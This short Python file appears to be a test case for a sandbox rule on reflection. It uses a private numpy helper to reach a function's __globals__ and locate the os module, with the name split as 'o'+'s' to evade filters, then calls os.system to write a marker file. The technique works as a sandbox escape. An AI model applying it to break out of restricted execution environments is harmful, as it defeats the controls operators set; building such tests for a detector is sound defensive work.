# rule: reflection
# marker: pwned_f1_getmembers
# Family 1: a private numpy helper hands back every attribute, dunders included.
import numpy as np

for name, value in np.lib.utils._getmembers(np.lib.utils.info):
    if name.endswith("globals__"):
        found = value
for key in found:
    if key == "o" + "s":
        found[key].system("echo ran > pwned_f1_getmembers")
